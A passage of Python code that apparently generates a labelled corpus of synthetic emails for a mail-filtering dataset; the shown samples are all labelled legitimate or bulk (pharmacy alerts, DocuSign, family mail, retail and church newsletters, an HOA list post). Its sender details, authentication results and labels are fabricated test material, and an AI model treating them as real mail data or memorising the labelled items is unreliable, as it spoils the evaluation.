Message-ID: {sh['msgid']}
{sh['sfmc']}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="pharmacy.cvs.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("sfmc", seed)), seed=seed)
    add("clean", "legit", "cvs-prescription-ready", raw,
        "Genuine CVS prescription-ready alert from pharmacy.cvs.com via Salesforce Marketing Cloud, store address "
        "and a tracked 'pay now' link on the brand's click subdomain.")


@sample
def l_walgreens_receta_es():
    seed = "l-wag"
    rcpt = "maria.delosangeles.ruiz@gmail.com"
    when = T("2025-08-11 10:05:37 -0500")
    out = sparkpost_out("em.walgreens.com", "bounce.em.walgreens.com", rcpt, when, seed, selector="wag1")
    lk = "https://links.em.walgreens.com/els/v2/"
    html = shell(
        row('<p style="font-size:26px;color:#e31837;margin:0;font-family:Georgia,serif;"><i>Walgreens</i></p>',
            "22px 30px 6px")
        + row('<p style="font-size:20px;">Su receta est&aacute; lista</p>'
              '<p>Hola Mar&iacute;a:</p><p>Su receta est&aacute; lista para recoger en:</p>'
              '<p style="background:#f6f6f6;padding:10px;">Walgreens #' + digits(seed + "st", 5)
              + '<br/>6200 N Mesa St, El Paso, TX 79912</p>'
              '<p>Puede recogerla en el autoservicio (drive-thru) o en la farmacia. Las recetas que no se recojan '
              'en 10 d&iacute;as se devolver&aacute;n al inventario.</p>')
        + row(btn(f"{lk}{url64(seed + 'l1', 30)}/{url64(seed + 'l2', 60)}", "Ver detalles", "#e31837"))
        + row('<p style="font-size:11px;color:#666;">Por su privacidad, no incluimos el nombre del medicamento.'
              f'<br/><a href="{lk}{url64(seed + "u1", 30)}/{url64(seed + "u2", 60)}" style="color:#666;">Preferencias '
              'de correo</a> | Walgreen Co., 200 Wilmot Rd, Deerfield, IL 60015</p>'
              f'<img src="https://links.em.walgreens.com/e/eo?_t={hexs(seed + "t", 32)}&_m={hexs(seed + "m", 32)}&'
              '_e=' + url64(seed + "e", 40) + '" width="1" height="1" alt="" />'),
        title="Walgreens")
    plain = ("Walgreens\n\nSu receta está lista\n\nHola María:\n\nSu receta está lista para recoger en Walgreens, "
             "6200 N Mesa St, El Paso, TX 79912. Puede recogerla en el autoservicio o en la farmacia.\n\n"
             "Las recetas que no se recojan en 10 días se devolverán al inventario.\n")
    headers = f"""From: Walgreens <walgreens@em.walgreens.com>
To: {rcpt}
Subject: {enc("María, su receta está lista para recoger", "Q")}
MIME-Version: 1.0
Message-ID: <{hexs(seed + 'mid', 8)}.{digits(seed + 'mid2', 5)}.{digits(seed + 'mid3', 3)}@bounce.em.walgreens.com>
Date: {fmt(when)}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="em.walgreens.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("sendgrid", seed)), seed=seed)
    add("clean", "legit", "walgreens-receta-lista-es", raw,
        "Genuine Spanish-language Walgreens prescription-ready notice from em.walgreens.com, sent through an ESP "
        "(SparkPost/Iterable-style links.em.walgreens.com tracking), authentication aligned.")


@sample
def l_docusign_lease():
    seed = "l-dsg"
    rcpt = "tylerhuang.nyc@gmail.com"
    when = T("2025-07-29 15:21:40 -0400")
    env = f"{hexs(seed + 'e1', 8)}-{hexs(seed + 'e2', 4)}-{hexs(seed + 'e3', 4)}-{hexs(seed + 'e4', 4)}-{hexs(seed + 'e5', 12)}"
    ip = "64.207.219." + str(num(seed + "ip", 10, 140))
    helo = rdns = "mailch.na4.docusign.net"
    out = Out(helo, ip, rdns, "dse_NA4@docusign.net",
              [f"Received: from docusign.net (10.168.{num(seed + 'i', 1, 250)}.{num(seed + 'i2', 1, 250)}) by "
               f"mailch.na4.docusign.net with Microsoft SMTP Server id 8.0.{num(seed + 'b', 100, 999)}.0; {fmt(when)}"])
    out.sigs = [Sig("docusign.net", "mail", ["From", "To", "Subject", "Date", "Message-ID", "Content-Type",
                                            "MIME-Version"], seed + "dk", when)]
    link = f"https://na4.docusign.net/Signing/EmailStart.aspx?a={env}&etti=24&acct={hexs(seed + 'a1', 8)}-{hexs(seed + 'a2', 4)}-4c1d-{hexs(seed + 'a3', 4)}-{hexs(seed + 'a4', 12)}&er={hexs(seed + 'er', 8)}"
    msg = ("Hi Tyler, attached is the renewal lease for 2207 Elm St Apt 3B (Sept 1, 2025 - Aug 31, 2026) at the rent "
           "we discussed. Please review and sign by Friday. Call me with any questions. - Angela")
    html = ('<html><body style="background:#eaeaea;margin:0;"><table width="100%" cellpadding="0" cellspacing="0">'
            '<tr><td align="center" style="padding:24px;"><table width="640" cellpadding="0" cellspacing="0" '
            'style="background:#fff;font-family:Helvetica,Arial,sans-serif;">'
            '<tr><td style="padding:24px;"><img src="https://na4.docusign.net/Member/Images/email/docusign-logo.png" '
            'width="116" alt="DocuSign" /></td></tr>'
            '<tr><td style="background:#1e4ca1;padding:28px;color:#fff;text-align:center;font-size:16px;">'
            'Angela Moretti sent you a document to review and sign.<br/><br/>'
            f'<a href="{link}" style="background:#ffc820;color:#333;padding:10px 24px;font-weight:bold;'
            'text-decoration:none;border-radius:2px;">REVIEW DOCUMENT</a></td></tr>'
            '<tr><td style="padding:24px;font-size:15px;color:#333;"><b>Angela Moretti</b><br/>'
            f'<a href="mailto:amoretti@parksideresidential.com">amoretti@parksideresidential.com</a><br/><br/>{msg}'
            '</td></tr><tr><td style="padding:24px;font-size:11px;color:#666;"><b>Do Not Share This Email</b><br/>'
            'This email contains a secure link to Docusign. Please do not share this email, link, or access code '
            'with others.<br/><br/><b>About Docusign</b><br/>Sign documents electronically in just minutes.</td></tr>'
            '</table></td></tr></table></body></html>\n')
    plain = (f"Angela Moretti sent you a document to review and sign.\n\nREVIEW DOCUMENT: {link}\n\nAngela Moretti\n"
             f"amoretti@parksideresidential.com\n\n{msg}\n\nDo Not Share This Email\n")
    headers = f"""Reply-To: Angela Moretti <amoretti@parksideresidential.com>
From: Angela Moretti via Docusign <dse_NA4@docusign.net>
To: Tyler Huang <{rcpt}>
Message-ID: <{hexs(seed + 'mid', 32)}@docusign.net>
Date: {fmt(when)}
Subject: Complete with Docusign: Lease Renewal - 2207 Elm St Apt 3B.pdf
X-DocuSign-EnvelopeID: {env}
X-Priority: 3
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="docusign.net", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("clean", "legit", "docusign-lease-renewal", raw,
        "Genuine DocuSign envelope from a property manager (business Reply-To) asking a tenant to sign a lease "
        "renewal; docusign.net authentication passes.")


@sample
def l_family_photos():
    seed = "l-fam"
    rcpt = "carol.ann.bixby@gmail.com"
    when = T("2025-07-14 20:47:15 -0500")
    sender = "linda.bixby.gardens@gmail.com"
    out = gmail_out(sender, rcpt, when, seed)
    p1 = files.photo_jpeg(4, (640, 480))
    p2 = files.photo_jpeg(9, (640, 480))
    plain = ("Hi Mom,\n\nHere are a couple from the lake on Saturday. The kids had a blast, Ellie finally jumped off "
             "the dock! Sending the rest through the shared album later.\n\nWe'll see you Sunday for lunch - I'll "
             "bring the potato salad.\n\nLove you,\nLinda\n")
    html = ('<div dir="ltr">Hi Mom,<div><br></div><div>Here are a couple from the lake on Saturday. The kids had a '
            'blast, Ellie finally jumped off the dock! Sending the rest through the shared album later.</div><div>'
            '<br></div><div>We&#39;ll see you Sunday for lunch - I&#39;ll bring the potato salad.</div><div><br>'
            '</div><div>Love you,</div><div>Linda</div></div>\n')
    headers = f"""MIME-Version: 1.0
From: Linda Bixby <{sender}>
Date: {fmt(when)}
Message-ID: {gmail_msgid(seed)}
Subject: Lake pics
To: Mom <{rcpt}>"""
    a1 = attachment("image/jpeg", "IMG_4127.jpg", p1)
    a2 = attachment("image/jpeg", "IMG_4131.jpg", p2)
    a1.extra.append(f"X-Attachment-Id: f_m{lower(seed + 'x1', 8)}0")
    a2.extra.append(f"X-Attachment-Id: f_m{lower(seed + 'x2', 8)}1")
    body = mixed(bnd("gmail", seed + "m"), [alt(plain, html, bnd("gmail", seed + "a")), a1, a2])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="gmail.com", policy="NONE",
               sp="QUARANTINE", headers=headers, body=body, seed=seed)
    add("clean", "legit", "family-lake-photos", raw,
        "A daughter's Gmail to her mother with two JPEG photos from a weekend at the lake and lunch plans - "
        "ordinary family mail with real image attachments.")


@sample
def l_tia_quince_es():
    seed = "l-tia"
    rcpt = "rosario.quintanilla@live.com"
    when = T("2025-04-27 18:12:09 -0500")
    sender = "carmen.quintanilla62@yahoo.com"
    out = yahoo_out(sender, when, seed)
    plain = ("Hola mija,\n\n¿Cómo están todos por allá? Te escribo para recordarte que la quinceañera de Valeria es "
             "el sábado 14 de junio a las 6 de la tarde en el salón de la iglesia San Judas Tadeo. La misa es a las "
             "4.\n\nTu mamá me dijo que ustedes vienen desde Houston el viernes. Se pueden quedar en la casa, ya "
             "arreglé el cuarto de atrás.\n\nPor favor avísame cuántos van a venir para la cena, necesito darle el "
             "número a la señora del catering antes del 15 de mayo.\n\nUn abrazo fuerte y besos a los niños,\n"
             "Tía Carmen\n")
    html = ('<html><head></head><body><div class="yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, '
            'Arial, sans-serif;font-size:16px;">'
            + "".join(f'<div dir="ltr" data-setdir="false">{p}</div><div dir="ltr" data-setdir="false"><br></div>'
                      for p in plain.strip().replace("\n\n", "\x00").replace("\n", "<br>").split("\x00"))
            + '</div></body></html>\n')
    headers = f"""Date: {fmt(when)}
From: Carmen Quintanilla <{sender}>
To: Rosario Quintanilla <{rcpt}>
Message-ID: {yahoo_msgid(seed, when)}
Subject: {enc("Quinceañera de Valeria - 14 de junio", "Q")}
MIME-Version: 1.0
X-Mailer: WebService/1.1.23813 YahooMailIosMobile"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="yahoo.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("yahoo", seed)), seed=seed)
    add("clean", "legit", "tia-quinceanera-es", raw,
        "Spanish family e-mail from an aunt's Yahoo account to her niece on live.com about a quinceañera date, "
        "lodging and a head count for the caterer.")


# ============================================================================================
# LEGITIMATE: newsletters, marketing, lists (bulk)
# ============================================================================================

@sample
def b_robinhood_snacks():
    seed = "b-rhs"
    rcpt = "tylerhuang.nyc@gmail.com"
    when = T("2025-03-12 06:31:04 -0400")
    out = sparkpost_out("robinhood.com", "mail.robinhood.com", rcpt, when, seed, selector="rh2022")
    ab = "https://ablink.snacks.robinhood.com/ls/click?upn="
    stories = [("Nvidia's big week", "Chip stocks rallied after a blowout earnings report, but the spending race "
                "among cloud giants is getting expensive."),
               ("Egg prices crack", "Wholesale egg prices fell 30% from their February peak as bird-flu cases "
                "slowed. Grocery shelves should follow in a few weeks."),
               ("Tax season check", "The IRS says the average refund so far is about $3,400. It never emails or "
                "texts about refunds - that's a scam.")]
    html_stories = "".join(
        row(f'<p style="font-size:18px;margin:0;"><b>{t}</b></p><p>{d} <a href="{ab}{url64(seed + t, 60)}" '
            f'style="color:#00a805;">Read more</a></p>') for t, d in stories)
    html = shell(
        row('<p style="font-size:26px;margin:0;"><b>Robinhood Snacks</b></p><p style="color:#6f6f6f;margin:0;">'
            'The 3-minute newsletter with fresh takes on the financial news you need to start your day.</p>',
            "24px 30px 8px")
        + html_stories
        + row('<p style="font-size:11px;color:#6f6f6f;">Robinhood Snacks is published by Robinhood Markets, Inc. '
              'This is not investment advice. All investments involve risk.<br/>'
              f'<a href="{ab}{url64(seed + "unsub", 60)}" style="color:#6f6f6f;">Unsubscribe</a> | 85 Willow Rd, '
              'Menlo Park, CA 94025</p>'
              f'<img src="https://ablink.snacks.robinhood.com/wf/open?upn={url64(seed + "open", 80)}" width="1" '
              'height="1" alt="" />'),
        title="Robinhood Snacks", bg="#ffffff")
    plain = "Robinhood Snacks\n\n" + "\n\n".join(f"{t}\n{d}" for t, d in stories) + \
        "\n\nRobinhood Snacks is published by Robinhood Markets, Inc. This is not investment advice.\n"
    headers = "\n".join([
        f"From: Robinhood Snacks <snacks@robinhood.com>",
        f"To: {rcpt}",
        f"Subject: {enc('🥚 Eggs get cheaper, chips get pricier', 'B')}",
        "MIME-Version: 1.0",
        f"Message-ID: <{hexs(seed + 'mid', 8)}.{digits(seed + 'mid2', 5)}.{digits(seed + 'mid3', 3)}@mail.robinhood.com>",
        f"Date: {fmt(when)}",
        *list_unsub(f"unsub-{hexs(seed + 'lu', 24)}@mail.robinhood.com",
                    f"https://ablink.snacks.robinhood.com/unsub?upn={url64(seed + 'lu2', 60)}"),
        f"X-Braze-Campaign: {hexs(seed + 'bz', 24)}"])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="robinhood.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("sendgrid", seed)), seed=seed)
    add("bulk", "bulk", "robinhood-snacks-newsletter", raw,
        "Genuine Robinhood Snacks daily newsletter from robinhood.com through Braze/SparkPost, with branded "
        "ablink tracking links and one-click List-Unsubscribe.")


@sample
def b_costco_deals():
    seed = "b-cost"
    rcpt = "mike.terranova@gmail.com"
    when = T("2025-11-24 05:03:40 -0500")
    out = sfmc_out("online", "costco.com", rcpt, when, seed, selector="200608")
    sh = sfmc_headers(seed, "online", "costco.com")
    c = sh["click"]
    items = [("Samsung 65\" Class QN90D Neo QLED 4K TV", "$1,199.99", "$300 OFF"),
             ("Dyson V15 Detect Extra Cordless Vacuum", "$549.99", "$150 OFF"),
             ("Kirkland Signature Wild Alaskan Sockeye Salmon, 3 lb", "$39.99", "$10 OFF"),
             ("LEGO Icons Botanical Garden Set", "$249.99", "$50 OFF")]
    cells = "".join(
        f'<tr><td style="padding:10px 30px;border-bottom:1px solid #eee;"><a href="{c}/?qs={hexs(seed + n, 100)}" '
        f'style="color:#005dab;text-decoration:none;"><b>{n}</b></a><br/><span style="color:#e31837;">{o}</span> '
        f'&nbsp; After savings {p}</td></tr>\n' for n, p, o in items)
    html = shell(
        row(f'<a href="{c}/?qs={hexs(seed + "logo", 100)}"><img src="{sh["img"]}/lib/fe3f15707564047a7c1d77/m/3/'
            'costco-logo.png" width="150" alt="Costco Wholesale" style="border:0;" /></a>', "18px 30px 6px")
        + row('<p style="font-size:26px;color:#e31837;margin:0;"><b>Black Friday Savings Are Here</b></p>'
              '<p>Members save on top gifts in warehouses and online through December 1.</p>')
        + cells
        + row('<p style="font-size:11px;color:#666;">Valid while supplies last. Limit 2 per member. '
              f'<a href="{sh["unsub"]}" style="color:#666;">Unsubscribe</a> | '
              f'<a href="{sh["view"]}/?qs={hexs(seed + "v", 100)}" style="color:#666;">View in browser</a><br/>'
              'Costco Wholesale Corporation, 999 Lake Drive, Issaquah, WA 98027</p>'
              f'<img src="{c}/open.aspx?ffcb10-{hexs(seed + "o", 20)}" width="1" height="1" alt="" />'),
        title="Costco", preheader="TVs, vacuums, toys and more - members only")
    plain = "Black Friday Savings Are Here\n\n" + "\n".join(f"- {n}: {p} after {o}" for n, p, o in items) + \
        f"\n\nShop now: {c}/?qs={hexs(seed + 'logo', 100)}\n\nUnsubscribe: {sh['unsub']}\n"
    headers = "\n".join([
        'From: "Costco Wholesale" <costco@online.costco.com>',
        f"To: <{rcpt}>",
        "Subject: Black Friday Savings Are Here! TVs, Dyson, LEGO & More",
        f"Date: {fmt(when)}",
        "MIME-Version: 1.0",
        *list_unsub(sh["leave"], sh["unsub"]),
        sh["job"], f"Message-ID: {sh['msgid']}", sh["sfmc"], sh["csa"]])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="online.costco.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("sfmc", seed)), seed=seed)
    add("bulk", "bulk", "costco-black-friday-sfmc", raw,
        "Genuine Costco Black Friday promotion from online.costco.com via Salesforce Marketing Cloud: product "
        "list, click.online.costco.com tracking, List-Unsubscribe and CSA headers.")


@sample
def b_humana_newsletter():
    seed = "b-hum"
    rcpt = "haroldbeasley1949@aol.com"
    when = T("2025-09-16 10:15:02 -0500")
    out = sfmc_out("email", "humana.com", rcpt, when, seed, selector="200608")
    sh = sfmc_headers(seed, "email", "humana.com")
    c = sh["click"]
    html = shell(
        row('<p style="font-size:26px;color:#78be20;margin:0;"><b>Humana.</b></p>', "22px 30px 6px")
        + row('<p style="font-size:20px;"><b>Your fall wellness checklist</b></p>'
              '<p>Hi Harold,</p><p>As the seasons change, here are a few ways to make the most of your Humana Gold '
              'Plus&reg; (HMO) plan:</p><ul><li><b>Flu shot:</b> $0 at in-network pharmacies - just show your '
              'member ID card.</li><li><b>Annual wellness visit:</b> schedule yours with your primary care '
              'provider.</li><li><b>Healthy Options allowance:</b> your remaining 2025 balance can be used on '
              'eligible OTC items until December 31.</li></ul>')
        + row(btn(f"{c}/?{sh['qs']}", "Sign in to MyHumana", "#78be20"))
        + row('<p style="font-size:11px;color:#666;">Humana is a Medicare Advantage HMO, PPO and PFFS '
              'organization with a Medicare contract. Enrollment in any Humana plan depends on contract renewal. '
              'Humana will never ask for your bank details by email.<br/>Y0040_GHHLYKLEN_C<br/>'
              f'<a href="{sh["unsub"]}" style="color:#666;">Unsubscribe</a> | Humana Inc., 500 West Main Street, '
              'Louisville, KY 40202</p>'),
        title="Humana")
    plain = ("Humana.\n\nYour fall wellness checklist\n\nHi Harold,\n\n- Flu shot: $0 at in-network pharmacies.\n"
             "- Annual wellness visit: schedule yours with your primary care provider.\n- Healthy Options allowance: "
             f"use your remaining 2025 balance by December 31.\n\nSign in to MyHumana: {c}/?{sh['qs']}\n\n"
             f"Y0040_GHHLYKLEN_C\nUnsubscribe: {sh['unsub']}\n")
    headers = "\n".join([
        'From: "Humana" <Humana@email.humana.com>',
        f"To: <{rcpt}>",
        "Subject: Harold, your fall wellness checklist is here",
        f"Date: {fmt(when)}",
        "MIME-Version: 1.0",
        *list_unsub(sh["leave"], sh["unsub"]),
        sh["job"], f"Message-ID: {sh['msgid']}", sh["sfmc"]])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="email.humana.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("sfmc", seed)), seed=seed)
    add("bulk", "bulk", "humana-fall-wellness-newsletter", raw,
        "Genuine Humana Medicare Advantage member newsletter (flu shot, wellness visit, OTC allowance) from "
        "email.humana.com via Salesforce Marketing Cloud, CMS material ID and unsubscribe.")


@sample
def b_church_bulletin_mailchimp():
    seed = "b-church"
    rcpt = "joan.whitaker@yahoo.com"
    when = T("2025-12-05 16:02:27 -0600")
    u = hexs(seed + "u", 25)
    lid = hexs(seed + "lid", 10)
    cid = hexs(seed + "cid", 10)
    ip = "198.2." + str(num(seed + "ip", 128, 191)) + "." + str(num(seed + "ip2", 2, 250))
    helo = rdns = f"mail{num(seed + 'm', 100, 250)}.atl{num(seed + 'atl', 1, 281)}.mcsv.net"
    mf = f"bounce-mc.us21_{num(seed + 'b', 100000000, 199999999)}.{num(seed + 'b2', 1000000, 9999999)}-{hexs(seed + 'b3', 10)}@{helo}"
    out = Out(helo, ip, rdns, mf, [f"Received: from localhost (localhost [127.0.0.1])\n\tby {helo} (Mailchimp) "
                                   f"with ESMTP id 4X{alnum(seed + 'q', 10)}\n\tfor <{rcpt}>; {fmt(when)}"])
    out.sigs = [Sig("gracebaptistfranklin.org", "k2", ["From", "Subject", "To", "Date", "List-Unsubscribe",
                                                       "List-Unsubscribe-Post", "List-ID", "Message-ID", "Reply-To"],
                    seed + "dk", when),
                Sig("mcdlv.net", "k1", ["From", "Subject", "To", "Date", "List-Unsubscribe"], seed + "dk2", when)]
    trk = f"https://gracebaptistfranklin.us21.list-manage.com/track/click?u={u}&id="
    html = shell(
        row('<p style="font-size:24px;color:#2c4a6e;margin:0;font-family:Georgia,serif;">Grace Baptist Church</p>'
            '<p style="color:#777;margin:0;">Weekly Bulletin &middot; Second Sunday of Advent &middot; Dec 7, 2025</p>',
            "22px 30px 8px")
        + row('<p><b>Worship</b> - Sunday School 9:30 AM, Worship 10:45 AM. Pastor Mike continues the Advent series '
              '&quot;Waiting in Hope&quot; (Isaiah 40:1-11).</p>'
              '<p><b>Hanging of the Greens</b> - Wednesday 6:00 PM fellowship supper ($5, kids free). Please '
              f'<a href="{trk}{hexs(seed + "l1", 10)}&e={hexs(seed + "e", 10)}">sign up here</a>.</p>'
              '<p><b>Angel Tree</b> - Gifts are due back by Dec 14. Thank you for caring for 42 children this '
              'year!</p>'
              '<p><b>A reminder</b> - Pastor Mike will never e-mail or text you asking for gift cards or money. '
              'If you get such a message from a Gmail address using his name, delete it and call the office.</p>'
              f'<p><a href="{trk}{hexs(seed + "l2", 10)}&e={hexs(seed + "e", 10)}">Give online</a> | '
              f'<a href="{trk}{hexs(seed + "l3", 10)}&e={hexs(seed + "e", 10)}">Watch the livestream</a></p>')
        + row('<p style="font-size:11px;color:#777;">Copyright &copy; 2025 Grace Baptist Church, All rights reserved.'
              '<br/>You are receiving this email because you are a member or friend of Grace Baptist Church.<br/>'
              '410 Main Street, Franklin, TN 37064<br/>'
              f'<a href="https://gracebaptistfranklin.us21.list-manage.com/unsubscribe?u={u}&id={lid}&e='
              f'{hexs(seed + "e", 10)}&c={cid}" style="color:#777;">unsubscribe from this list</a> &middot; '
              f'<a href="https://gracebaptistfranklin.us21.list-manage.com/profile?u={u}&id={lid}&e='
              f'{hexs(seed + "e", 10)}" style="color:#777;">update subscription preferences</a></p>'
              f'<img src="https://gracebaptistfranklin.us21.list-manage.com/track/open.php?u={u}&id={cid}&e='
              f'{hexs(seed + "e", 10)}" height="1" width="1" alt="" />'),
        title="Weekly Bulletin", font="Georgia,serif")
    plain = ("Grace Baptist Church - Weekly Bulletin - Dec 7, 2025\n\nWorship - Sunday School 9:30 AM, Worship 10:45 "
             "AM.\n\nHanging of the Greens - Wednesday 6:00 PM fellowship supper.\n\nAngel Tree - Gifts are due back "
             "by Dec 14.\n\nA reminder - Pastor Mike will never e-mail or text you asking for gift cards or money.\n\n"
             "Grace Baptist Church, 410 Main Street, Franklin, TN 37064\n")
    headers = "\n".join([
        "Subject: Weekly Bulletin - Second Sunday of Advent",
        "From: Grace Baptist Church <office@gracebaptistfranklin.org>",
        "Reply-To: Grace Baptist Church <office@gracebaptistfranklin.org>",
        f"To: <{rcpt}>",
        f"Date: {fmt(when)}",
        f"Message-ID: <{hexs(seed + 'mid', 24)}.{hexs(seed + 'mid2', 20)}@mail{num(seed + 'm', 100, 250)}.atl{num(seed + 'atl', 1, 281)}.mcdlv.net>",
        *list_unsub(f"unsubscribe-mc.us21_{u}.{hexs(seed + 'lm', 10)}-{hexs(seed + 'e', 10)}@mailin.mcsv.net",
                    f"https://gracebaptistfranklin.us21.list-manage.com/unsubscribe?u={u}&id={lid}&e={hexs(seed + 'e', 10)}&c={cid}"),
        f"X-Campaign: mailchimp{u}.{cid}",
        f"X-campaignid: mailchimp{u}.{cid}",
        f"X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={cid}&e={hexs(seed + 'e', 10)}",
        f"X-MC-User: {u}",
        f"Feedback-ID: {num(seed + 'fb', 100000000, 199999999)}:{num(seed + 'fb', 100000000, 199999999)}.{num(seed + 'fb3', 1000000, 9999999)}:us21:mc",
        f"List-ID: {u}mc list <{u}.{num(seed + 'lidn', 100000, 999999)}.list-id.mcsv.net>",
        "X-Accounttype: ff",
        "MIME-Version: 1.0"])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="gracebaptistfranklin.org",
               policy="NONE", headers=headers, body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("bulk", "bulk", "church-weekly-bulletin-mailchimp", raw,
        "Genuine weekly church bulletin sent with Mailchimp from the church's authenticated domain (Advent "
        "events, sign-up and giving links via list-manage.com), including a warning about gift-card impostors.")


@sample
def b_hoa_groupsio():
    seed = "b-hoa"
    rcpt = "p.gallagher@comcast.net"
    when = T("2025-04-15 19:26:51 -0400")
    ip = "66.175.222." + str(num(seed + "ip", 100, 120))
    helo = rdns = "mail02.groups.io"
    mf = f"bounce+{num(seed + 'b', 10000, 99999)}+{num(seed + 'b2', 100, 999)}+{num(seed + 'b3', 1000000, 9999999)}+{num(seed + 'b4', 1000000, 9999999)}@groups.io"
    out = Out(helo, ip, rdns, mf,
              [f"Received: from [127.0.0.1] ([127.0.0.1]) by web02.groups.io with SMTP;\n\t{fmt(when)}"])
    out.sigs = [Sig("groups.io", "20240924", ["Subject", "Sender", "Date", "Message-Id", "Reply-To", "From",
                                              "List-Unsubscribe", "Content-Type", "MIME-Version", "To"],
                    seed + "dk", when, c="relaxed/simple")]
    plain = ("Hi neighbors,\n\nA few reminders from the board ahead of spring:\n\n"
             "1. Annual meeting: Tuesday, April 29 at 7:00 PM in the Willow Creek clubhouse. We will vote on the 2025 "
             "budget and two open board seats. Proxy forms are in the Files section of this group.\n\n"
             "2. Pool opens Memorial Day weekend. New key fobs will be handed out at the meeting or by appointment.\n\n"
             "3. Community yard sale is Saturday, May 10, 7 AM - noon. No sign-up needed.\n\n"
             "4. Dues for Q2 ($185) are due May 1 through the AppFolio portal as usual. The board will never e-mail "
             "new bank or wire instructions.\n\nThanks,\nPatricia Gallagher\nSecretary, Willow Creek HOA\n\n"
             "_._,_._,_\n------------------------------------------------------------------------\n"
             "Groups.io Links:\n\nYou receive all messages sent to this group.\n\n"
             f"View/Reply Online (#{num(seed + 'n', 300, 999)}): https://groups.io/g/willowcreek-hoa/message/"
             f"{num(seed + 'n', 300, 999)}\nMute This Topic: https://groups.io/mt/{num(seed + 't', 100000000, 119999999)}/"
             f"{num(seed + 't2', 1000000, 9999999)}\nGroup Owner: willowcreek-hoa+owner@groups.io\n"
             f"Unsubscribe: https://groups.io/g/willowcreek-hoa/leave/{num(seed + 'lv', 1000000, 9999999)}/"
             f"{num(seed + 'lv2', 1000000, 9999999)}/{num(seed + 'lv3', 100000000, 999999999)}/xyzzy  "
             "[p.gallagher@comcast.net]\n------------------------------------------------------------------------\n"
             "_._,_._,_\n")
    headers = "\n".join([
        f"Sender: willowcreek-hoa@groups.io",
        f"Date: {fmt(when)}",
        "From: \"Patricia Gallagher\" <p.gallagher@comcast.net>",
        "To: willowcreek-hoa@groups.io",
        f"Message-ID: <{num(seed + 'mid', 100000000, 2099999999)}.{num(seed + 'mid2', 100000, 999999)}.{epoch(when) * 1000 + 312}@connect.xfinity.com>",
        "Subject: [willowcreek-hoa] Annual meeting April 29, pool, yard sale, Q2 dues",
        "MIME-Version: 1.0",
        "Precedence: Bulk",
        "List-Subscribe: <mailto:willowcreek-hoa+subscribe@groups.io>",
        "List-Help: <mailto:willowcreek-hoa+help@groups.io>",
        "X-Original-From: \"Patricia Gallagher\" <p.gallagher@comcast.net>",
        "Delivered-To: mailing list willowcreek-hoa@groups.io",
        "Mailing-List: list willowcreek-hoa@groups.io; contact willowcreek-hoa+owner@groups.io",
        "List-Id: <willowcreek-hoa.groups.io>",
        "List-Post: <mailto:willowcreek-hoa@groups.io>",
        "List-Archive: <https://groups.io/g/willowcreek-hoa>",
        "Reply-To: willowcreek-hoa@groups.io",
        f"List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"List-Unsubscribe: <https://groups.io/g/willowcreek-hoa/leave/{num(seed + 'lv', 1000000, 9999999)}/"
        f"{num(seed + 'lv2', 1000000, 9999999)}/{num(seed + 'lv3', 100000000, 999999999)}/xyzzy>",
        ])
    body = Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="utf-8"')
    # the recipient here is another board member's household copy
    raw = ship(out, rcpt="m.gallagher.home@comcast.net", when=when, spf="pass", dmarc="pass", hfrom="groups.io",
               policy="NONE", headers=headers.replace('From: "Patricia Gallagher" <p.gallagher@comcast.net>',
                                                      'From: "Patricia Gallagher via groups.io" '
                                                      '<p.gallagher=comcast.net@groups.io>', 1),
               body=body, seed=seed)
    add("bulk", "bulk", "hoa-groupsio-annual-meeting", raw,
        "Genuine homeowners' association mailing-list post via groups.io (From rewritten to the list domain, "
        "groups.io DKIM) about the annual meeting, pool, yard sale and dues, with list headers.")


@sample
def b_studentaid_govdelivery():
    seed = "b-fsa"
    rcpt = "brianna.cole.97@gmail.com"
    when = T("2025-06-24 11:00:19 -0400")
    ip = "209.11.164." + str(num(seed + "ip", 10, 140))
    helo = rdns = f"mta-{num(seed + 'm', 10, 99)}.govdelivery.com"
    mf = f"bounce-{num(seed + 'b', 1000000, 9999999)}-{num(seed + 'b2', 100000000, 999999999)}@public.govdelivery.com"
    out = Out(helo, ip, rdns, mf, [f"Received: from odin{num(seed + 'o', 1, 9)}.gdelivery.local by {helo} with "
                                   f"ESMTP id {num(seed + 'id', 10000000, 99999999)}; {fmt(when)}"])
    out.sigs = [Sig("studentaid.gov", "govd", ["from", "to", "subject", "date", "message-id", "list-unsubscribe"],
                    seed + "dk", when), Sig("govdelivery.com", "gd", ["from", "to", "subject", "date"], seed + "dk2", when)]
    lk = "https://lnks.gd/l/eyJhbGciOiJIUzI1NiJ9." + url64(seed + "jwt", 140) + "/s/" + digits(seed + "s", 10) + "/br/" + \
        digits(seed + "br", 12) + "-l"
    html = shell(
        row('<p style="font-size:20px;color:#0b4778;margin:0;"><b>Federal Student Aid</b></p><p style="margin:0;'
            'color:#555;font-size:12px;">An Office of the U.S. Department of Education</p>', "22px 30px 8px")
        + row('<p style="font-size:18px;"><b>Your student loan payments start soon</b></p>'
              '<p>Your grace period is ending. Your first payment will be due in about 60 days, and your loan '
              'servicer will contact you with the exact amount and due date.</p>'
              '<p><b>Things to do now:</b></p><ul><li>Log in to StudentAid.gov to confirm who your loan servicer '
